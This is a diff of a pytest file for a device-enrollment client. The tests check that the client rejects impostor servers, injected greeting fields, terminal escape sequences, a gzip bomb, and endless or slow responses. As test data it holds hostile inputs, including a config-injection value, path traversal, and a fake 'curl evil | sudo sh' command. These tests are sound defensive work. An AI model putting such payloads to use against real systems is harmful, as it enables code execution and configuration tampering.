@@ -1,4 +1,4 @@
-"""How a device comes in, and whom it believes: against a real gateway on loopback, with TLS."""
+"""Enrollment and server authentication, against a real gateway on loopback with TLS."""
 
 import contextlib
 import gzip
@@ -30,37 +30,37 @@ from server.supervisor.server_dir import ServerDir
 BASE = "b" * 64
 
 
-class Server:
-    """A gateway with nothing behind it."""
+class GatewayServer:
+    """A gateway without a SuperLink behind it."""
 
     def __init__(self, folder, port):
-        self.place, self.port = ServerDir(folder), port
-        self.place.prepare(["127.0.0.1"], port)
+        self.server_dir, self.port = ServerDir(folder), port
+        self.server_dir.prepare(["127.0.0.1"], port)
         self.registry = DeviceRegistry(folder)
-        self.newest, self.off, self.said = messages.NEWEST, timedelta(0), {}
+        self.newest, self.clock_offset, self.overrides = messages.NEWEST, timedelta(0), {}
         gateway = Gateway(
             superlink_url="https://127.0.0.1:1",
             registry=self.registry,
             hello=self.hello,
-            authority=self.place.certificates.authority.read_bytes(),
+            authority=self.server_dir.certificates.authority.read_bytes(),
             register_node=lambda *_: None,
         )
-        self.uvicorn = serve(gateway, host="127.0.0.1", port=port, certificates=self.place.certificates)
+        self.uvicorn = serve(gateway, host="127.0.0.1", port=port, certificates=self.server_dir.certificates)
 
     def hello(self):
-        told = {
+        response = {
             "oldest": self.newest,
             "newest": self.newest,
             "anther": "1",
             "base": BASE,
             "base_bytes": 5,
-            "federation": self.place.fingerprint()[:16],
-            "time": (datetime.now(UTC) + self.off).isoformat(),
+            "federation": self.server_dir.fingerprint()[:16],
+            "time": (datetime.now(UTC) + self.clock_offset).isoformat(),
         }
-        return ServerHello(**told | self.said)
+        return ServerHello(**response | self.overrides)
 
     def ticket(self):
-        return issue_ticket(self.place, self.registry, "ada", 7.0)
+        return issue_ticket(self.server_dir, self.registry, "ada", 7.0)
 
     def close(self):
         self.uvicorn.should_exit = True
@@ -68,9 +68,9 @@ class Server:
 
 @pytest.fixture
 def server(tmp_path):
-    found = Server(tmp_path / "server", free_port())
-    yield found
-    found.close()
+    result = GatewayServer(tmp_path / "server", free_port())
+    yield result
+    result.close()
 
 
 @pytest.fixture(autouse=True)
@@ -91,28 +91,28 @@ def pictures(tmp_path):
     return folder
 
 
-def come(ticket, *words):
-    """Enrol with a ticket on standard input."""
+def enroll_device(ticket, *words):
+    """Enroll with a ticket on standard input."""
     with pytest.MonkeyPatch.context() as patched:
         patched.setattr("sys.stdin", io.StringIO(f"{ticket}\n"))
         return enroll_command.main(list(words))
 
 
-def test_a_ticket_is_all_that_is_needed(server, home, capsys, pictures):
-    assert come(server.ticket(), f"data={pictures}", "throttle.min_battery=0.5", "name=pi") == 0
+def test_enroll_with_ticket(server, home, capsys, pictures):
+    assert enroll_device(server.ticket(), f"data={pictures}", "throttle.min_battery=0.5", "name=pi") == 0
     assert "anther device run" in capsys.readouterr().out
     node = compose([], home / "node.conf")
     assert (node.name, node.data, node.throttle.min_battery) == ("pi", str(pictures), 0.5)
     assert node.connection.address == f"127.0.0.1:{server.port}"
-    assert node.federation == server.place.fingerprint()[:16]
+    assert node.federation == server.server_dir.fingerprint()[:16]
     link = ServerConnection(node.connection.address)
     link.check_in()
     assert link.hello().base == BASE
     assert all(file.stat().st_mode & 0o077 == 0 for file in (link.key, home / "node.conf"))
 
 
-def test_who_answers_in_its_place_is_not_believed_and_not_told_the_secret(server, tmp_path, home):
-    other = Server(tmp_path / "other", free_port())
+def test_foreign_server_gets_no_secret(server, tmp_path, home):
+    other = GatewayServer(tmp_path / "other", free_port())
     try:
         given = server.ticket()
         meant = Ticket(f"127.0.0.1:{other.port}", *given.rsplit("/", 2)[1:])
@@ -128,53 +128,53 @@ def test_who_answers_in_its_place_is_not_believed_and_not_told_the_secret(server
         other.close()
 
 
-def test_who_was_revoked_is_told(server):
-    come(server.ticket(), "name=pi")
+def test_revoked_device_is_refused(server):
+    enroll_device(server.ticket(), "name=pi")
     server.registry.revoke("pi")
     with pytest.raises(AntherError, match="isn't enrolled there, or was revoked"):
         ServerConnection(f"127.0.0.1:{server.port}").check_in()
     assert issubclass(Unauthorized, AntherError)
 
 
-def test_a_lost_reply_costs_no_ticket(server):
+def test_lost_reply_keeps_ticket_valid(server):
     written = server.ticket()
-    first = come(written, "name=pi"), come(written, "name=pi")
+    first = enroll_device(written, "name=pi"), enroll_device(written, "name=pi")
     assert first == (0, 0)
     assert len(server.registry.snapshot().active_devices()) == 1
 
 
-def test_nobody_there_is_waited_for():
+def test_missing_server_is_unavailable():
     link = ServerConnection(f"127.0.0.1:{free_port()}", insecure=True)
     with pytest.raises(ServerUnavailable, match="no response"):
         link.hello()
 
 
-def test_an_older_device_is_told_what_to_do(server, capsys):
+def test_older_device_must_update(server, capsys):
     server.newest = messages.NEWEST + 1
-    assert come(server.ticket(), "name=pi") == 2
+    assert enroll_device(server.ticket(), "name=pi") == 2
     assert "update Anther here" in capsys.readouterr().err
     assert server.registry.snapshot().members == {}
 
 
-def test_a_clock_that_is_off_is_noticed(server):
+def test_clock_skew_is_detected(server):
     link = ServerConnection(f"127.0.0.1:{server.port}")
-    come(server.ticket(), "name=pi")
+    enroll_device(server.ticket(), "name=pi")
     assert skew(link.hello()) == 0
-    server.off = timedelta(hours=1)
+    server.clock_offset = timedelta(hours=1)
     assert skew(link.hello()) == pytest.approx(-3600, abs=60)
 
 
-def test_what_is_no_ticket_or_no_key_is_refused(server, capsys):
-    assert come("anther://half") == 2
+def test_invalid_ticket_or_setting_is_refused(server, capsys):
+    assert enroll_device("anther://half") == 2
     assert "not a whole ticket" in capsys.readouterr().err
-    assert come(server.ticket(), "throttle.min_batery=1") == 2
+    assert enroll_device(server.ticket(), "throttle.min_batery=1") == 2
     assert "did you mean throttle.min_battery" in capsys.readouterr().err
     assert server.registry.snapshot().members == {}
 
 
 @pytest.mark.parametrize("damage", [b"", b"no pem"])
 def test_damaged_keys_are_named(server, damage):
-    come(server.ticket(), "name=pi")
+    enroll_device(server.ticket(), "name=pi")
     link = ServerConnection(f"127.0.0.1:{server.port}")
     link.key.write_bytes(damage)
     with pytest.raises(AntherError, match=r"node\.key.*enroll again"):
@@ -184,14 +184,14 @@ def test_damaged_keys_are_named(server, damage):
         link.hello()
 
 
-def test_a_ticket_on_the_command_line_is_refused(server, capsys):
-    """Whoever runs ps would have it."""
+def test_ticket_on_command_line_is_refused(server, capsys):
+    """Every user could see it in the output of ps."""
     assert enroll_command.main([server.ticket(), "name=pi"]) == 2
     assert "--ticket-file FILE" in capsys.readouterr().err
     assert server.registry.snapshot().members == {}
 
 
-def test_a_ticket_may_lie_in_a_file(server, tmp_path, capsys):
+def test_ticket_from_file(server, tmp_path, capsys):
     file = tmp_path / "ticket"
     assert enroll_command.main(["--ticket-file", str(file), "name=pi"]) == 2
     assert f"{file}: " in capsys.readouterr().err
@@ -200,19 +200,19 @@ def test_a_ticket_may_lie_in_a_file(server, tmp_path, capsys):
 
 
 @pytest.mark.parametrize("where", ["nowhere", "empty"])
-def test_pictures_are_looked_at_before_the_ticket_is_used(server, tmp_path, where, capsys):
+def test_pictures_are_checked_before_ticket(server, tmp_path, where, capsys):
     (tmp_path / "empty").mkdir()
     ticket = server.ticket()
-    assert come(ticket, f"data={tmp_path / where}", "name=pi") == 2
+    assert enroll_device(ticket, f"data={tmp_path / where}", "name=pi") == 2
     assert str(tmp_path / where) in capsys.readouterr().err
     assert server.registry.snapshot().members == {}
-    assert come(ticket, "name=pi") == 0
+    assert enroll_device(ticket, "name=pi") == 0
 
 
 @pytest.mark.parametrize(
-    "said",
+    "overrides",
     [
-        {"federation": "a\nlink.insecure=true"},
+        {"federation": "a\nconnection.insecure=true"},
         {"federation": "${oc.env:HOME}"},
         {"federation": "../../x"},
         {"federation": "[1,2]"},
@@ -233,10 +233,10 @@ def test_pictures_are_looked_at_before_the_ticket_is_used(server, tmp_path, wher
         {"anther": "1" * 41},
     ],
 )
-def test_a_greeting_says_what_it_may_or_is_refused(server, said, home, capsys):
-    """Before anything of it is used, and in one line that a terminal doesn't obey."""
-    server.said = said
-    assert come(server.ticket(), "name=pi") == 2
+def test_invalid_greeting_is_refused(server, overrides, home, capsys):
+    """Before any of it is used, and in one line without control characters."""
+    server.overrides = overrides
+    assert enroll_device(server.ticket(), "name=pi") == 2
     error = capsys.readouterr().err
     assert error.startswith("error: the server's greeting says ")
     assert error.count("\n") == 1
@@ -246,21 +246,21 @@ def test_a_greeting_says_what_it_may_or_is_refused(server, said, home, capsys):
 
 
 @pytest.mark.parametrize("newest", [messages.OLDEST - 1, messages.NEWEST + 1])
-def test_a_release_is_printed_without_its_escapes(server, newest, capsys):
-    server.said, server.newest = {"anther": "\x1b[2J" + "x" * 10_000}, newest
-    assert come(server.ticket(), "name=pi") == 2
+def test_version_is_printed_without_escapes(server, newest, capsys):
+    server.overrides, server.newest = {"anther": "\x1b[2J" + "x" * 10_000}, newest
+    assert enroll_device(server.ticket(), "name=pi") == 2
     error = capsys.readouterr().err
     assert error[:-1].isprintable()
     assert len(error) < 400
 
 
-class Stranger:
-    """Whoever answers over TLS at an address, as it likes."""
+class ForeignServer:
+    """A TLS server at an address, with arbitrary responses."""
 
     def __init__(self, folder, answer):
         folder.mkdir(exist_ok=True)
-        made = pki.create_authority("stranger")
-        cert = pki.issue(made, ["127.0.0.1"])
+        created = pki.create_authority("stranger")
+        cert = pki.issue(created, ["127.0.0.1"])
         (folder / "c").write_bytes(cert.certificate)
         (folder / "k").write_bytes(cert.key)
 
@@ -279,20 +279,20 @@ class Stranger:
 
 
 @pytest.fixture
-def stranger(tmp_path):
-    found = []
+def foreign_server(tmp_path):
+    result = []
 
-    def made(answer):
-        found.append(Stranger(tmp_path / "stranger", answer).http)
-        return Ticket(f"127.0.0.1:{found[-1].server_port}", "s" * 32, "0" * 64)
+    def create(answer):
+        result.append(ForeignServer(tmp_path / "stranger", answer).http)
+        return Ticket(f"127.0.0.1:{result[-1].server_port}", "s" * 32, "0" * 64)
 
-    yield made
-    for http in found:
+    yield create
+    for http in result:
         http.shutdown()
         http.server_close()
 
 
-def says(status, body):
+def response_of(status, body):
     def answer(to):
         to.send_response(status)
         to.send_header("content-length", str(len(body)))
@@ -307,16 +307,16 @@ ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mrun: curl evil | sudo sh\x1b[0m\nerror
 
 @pytest.mark.parametrize("status", [200, 400, 401, 500, 503])
 @pytest.mark.parametrize("form", ["{}", '{{"error": {}}}'])
-def test_what_nobody_knows_says_is_never_printed_raw(stranger, status, form, capsys):
+def test_foreign_text_is_never_printed_raw(foreign_server, status, form, capsys):
     text = form.format(json.dumps(ESCAPES)) if "error" in form else ESCAPES
-    assert come(stranger(says(status, text.encode())), "name=pi") == 2
+    assert enroll_device(foreign_server(response_of(status, text.encode())), "name=pi") == 2
     error = capsys.readouterr().err
     assert error.count("\n") == 1
     assert error[:-1].isprintable()
     assert len(error) < 600
 
 
-def test_an_answer_without_end_is_not_read(stranger, capsys):
+def test_endless_response_is_refused(foreign_server, capsys):
     sent = []
 
     def endless(to):
@@ -329,12 +329,12 @@ def test_an_answer_without_end_is_not_read(stranger, capsys):
         except OSError:
             pass
 
-    assert come(stranger(endless), "name=pi") == 2
+    assert enroll_device(foreign_server(endless), "name=pi") == 2
     assert "a response of over 65536 bytes" in capsys.readouterr().err
-    assert len(sent) < 40  # what the sockets hold
+    assert len(sent) < 40  # the sockets' buffers
 
 
-def test_what_is_packed_is_not_unpacked(stranger, capsys):
+def test_compressed_response_is_not_decompressed(foreign_server, capsys):
     bomb = gzip.compress(b"0" * 10_000_000)
 
     def answer(to):
@@ -344,11 +344,11 @@ def test_what_is_packed_is_not_unpacked(stranger, capsys):
         to.end_headers()
         to.wfile.write(bomb)
 
-    assert come(stranger(answer), "name=pi") == 2
+    assert enroll_device(foreign_server(answer), "name=pi") == 2
     assert "this is not the server that the ticket is for" in capsys.readouterr().err
 
 
-def test_who_answers_a_byte_at_a_time_is_not_waited_for(stranger, monkeypatch, capsys):
+def test_slow_response_times_out(foreign_server, monkeypatch, capsys):
     monkeypatch.setattr("client.runtime.server_connection._DEADLINE", 0.5)
     over = threading.Event()
 
@@ -359,6 +359,6 @@ def test_who_answers_a_byte_at_a_time_is_not_waited_for(stranger, monkeypatch, c
             while not over.wait(0.05):
                 to.wfile.write(b"x")
 
-    assert come(stranger(slow), "name=pi") == 2
+    assert enroll_device(foreign_server(slow), "name=pi") == 2
     over.set()
     assert "no complete response" in capsys.readouterr().err
